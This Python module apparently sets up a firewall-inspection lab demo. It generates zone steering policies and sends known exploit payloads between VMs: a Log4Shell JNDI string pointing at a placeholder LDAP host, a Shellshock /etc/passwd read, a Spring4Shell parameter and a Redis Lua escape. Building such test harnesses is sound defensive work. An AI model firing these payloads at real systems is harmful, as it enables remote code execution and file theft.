"""What the demonstration plays with: its policy documents and its exploits. No I/O.

Each exploit is a real request against a real server and stops at being one: the servers are nginx
and a patched Redis, the addresses in the payloads lead nowhere.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any, Literal

import yaml

from appliance.lab.plan import TIERS, LabVm

IpVersion = Literal["IPv4", "IPv6"]
VERSIONS: tuple[IpVersion, ...] = ("IPv4", "IPv6")
DIRECT_REASON = "replication is encrypted with keys of its own"

# name, from, to, action; what is left out is web -> db, the blind spot
_CLOSED = {"inspect": {"profile": "prevent", "onFailure": "closed"}}
_OPEN = {"inspect": {"profile": "prevent", "onFailure": "open"}}
_POLICIES: tuple[tuple[str, str, str, dict[str, Any]], ...] = (
    ("web-to-app", "web", "app", _CLOSED),
    ("app-to-web", "app", "web", _CLOSED),
    ("app-to-db", "app", "db", _OPEN),
    ("db-replication", "db", "db", {"direct": {"reason": DIRECT_REASON}}),
)
ADDED_POLICY = "web-to-db"


@dataclass(frozen=True, slots=True)
class Exploit:
    """A famous attack. ``http`` is what curl is given for it; empty for the one on Redis."""

    name: str
    cve: str
    http: tuple[str, ...] = ()


EXPLOITS = (
    Exploit("Log4Shell", "CVE-2021-44228", ("-A", "${jndi:ldap://198.51.100.9:1389/a}")),
    Exploit("Shellshock", "CVE-2014-6271", ("-A", "() { :;}; /bin/cat /etc/passwd")),
    Exploit(
        "Spring4Shell",
        "CVE-2022-22965",
        ("-d", "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
    ),
    Exploit("Redis Lua escape", "CVE-2022-0543"),
)
LOG4SHELL = EXPLOITS[0]


@dataclass(frozen=True, slots=True)
class Attempt:
    """One request from a VM to another; ``exploit`` None for a harmless one over HTTP."""

    exploit: Exploit | None
    source: str
    target: str
    version: IpVersion

    @property
    def token(self) -> str:
        """What tells this request from every other one in the server's log."""
        name = "benign" if self.exploit is None else self.exploit.cve.lower()
        return f"{name}-{self.source}-{self.target}-{self.version}".lower()

    @property
    def is_redis(self) -> bool:
        return self.exploit is not None and not self.exploit.http

    def __str__(self) -> str:
        what = "benign HTTP" if self.exploit is None else self.exploit.name
        return f"{what}, {self.source} -> {self.target}, {self.version}"


def build_documents(vms: Sequence[LabVm], *, with_added: bool) -> str:
    """All documents as YAML; ``with_added`` puts the policy for the blind spot among them."""

    def document(kind: str, name: str, spec: dict[str, Any]) -> dict[str, Any]:
        return {
            "apiVersion": "hairpin/v1",
            "kind": kind,
            "metadata": {"name": name},
            "spec": spec,
        }

    policies = [*_POLICIES, *([(ADDED_POLICY, "web", "db", _CLOSED)] if with_added else [])]
    documents = [
        *(
            document("VirtualMachine", vm.name, {"vmId": vm.vm_id, "tags": {"tier": vm.zone}})
            for vm in vms
        ),
        *(document("Zone", tier, {"selector": {"matchTags": {"tier": tier}}}) for tier in TIERS),
        *(
            document(
                "SteeringPolicy",
                name,
                {
                    "priority": 100,
                    "from": [{"zone": source}],
                    "to": [{"zone": target}],
                    "action": action,
                },
            )
            for name, source, target, action in policies
        ),
    ]
    return yaml.safe_dump_all(documents, sort_keys=False)


def find_policy(source: str, target: str) -> str:
    """The policy for connections between two VMs of the demonstration."""
    return f"{source.partition('-')[0]}-to-{target.partition('-')[0]}"


def build_attempt_argv(attempt: Attempt, address: str, seconds: int) -> list[str]:
    """The command that makes the request inside the source VM, and waits ``seconds`` at most.

    curl prints the status code (000 for none) and the seconds until it was connected.
    """
    if attempt.is_redis:
        # The comment is the token: SLOWLOG keeps the first 128 bytes of each argument.
        script = (
            f"--{attempt.token}\n"
            'return package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io")()'
        )
        return ["timeout", str(seconds), "redis-cli", "-h", address, "EVAL", script, "0"]
    host = f"[{address}]" if ":" in address else address
    extra = () if attempt.exploit is None else attempt.exploit.http
    return [
        *("curl", "-q", "-sS", "-g", "--noproxy", "*", "-m", str(seconds), "-o", "/dev/null"),
        *("-w", "%{http_code} %{time_connect}", *extra, f"http://{host}/{attempt.token}"),
    ]
